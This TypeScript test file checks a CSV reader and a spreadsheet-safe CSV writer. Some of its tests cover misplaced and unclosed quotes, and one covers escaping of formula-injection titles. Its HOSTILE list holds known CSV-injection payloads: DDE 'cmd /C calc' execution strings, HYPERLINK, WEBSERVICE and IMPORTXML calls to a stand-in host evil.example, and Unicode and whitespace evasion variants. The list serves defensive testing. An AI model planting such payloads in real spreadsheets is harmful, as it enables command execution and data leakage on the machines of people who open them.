import { expect, test } from 'vitest'
import { readCsv, sheetCsv } from './csv.ts'

test('a row with a misplaced quote is skipped and reported; the rows around it are read', () => {
  const { records, broken } = readCsv('a,b\n1,2\n3,15" screen\n5,6\n')
  expect(records).toEqual([
    { line: 1, cells: ['a', 'b'] },
    { line: 2, cells: ['1', '2'] },
    { line: 4, cells: ['5', '6'] },
  ])
  expect(broken).toEqual([{ after: 2, reason: expect.stringContaining('Quote') }])
})

test('an unclosed quote loses the rows after it', () => {
  const { records, broken } = readCsv('a,b\n1,2\n"3,4\n5,6\n')
  expect(records.map(({ cells }) => cells)).toEqual([
    ['a', 'b'],
    ['1', '2'],
  ])
  expect(broken).toMatchObject([{ after: 2 }])
})

/** Titles that a spreadsheet would run, from those that attackers are known to use. */
const HOSTILE = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example","Pay")',
  '=WEBSERVICE("https://evil.example/")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=IMPORTXML("https://evil.example","//a")',
  '=DDE("cmd";"/C calc";"1")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1)',
  '=',
  '-',
  '+91 98765 43210',
  '-- urgent --',
  '@channel',
  '=1+1";"=2+2',
  '\tEngineer',
  '\rEngineer',
]

test('no text of a spreadsheet is a formula, and nothing of it is lost', () => {
  const { records, broken } = readCsv(sheetCsv(HOSTILE.map((title) => [title, 'x'])))
  expect(broken).toEqual([])
  const [plain, guarded] = [HOSTILE, records.map(({ cells: [cell = ''] }) => cell)]
  expect(guarded).toEqual(plain.map((title) => `'${title.replaceAll(/\r\n?/g, '\n')}`))
})

test('rows of a spreadsheet end with CRLF; numbers, also below zero, and other texts stay as they are', () => {
  const rows = [
    ['Title', 'Pay (₹)'],
    ['Engineer, "R&D"; पुणे', -5],
    ['C# = good', null],
  ]
  expect(sheetCsv(rows)).toBe('Title,Pay (₹)\r\n"Engineer, ""R&D""; पुणे",-5\r\nC# = good,\r\n')
})
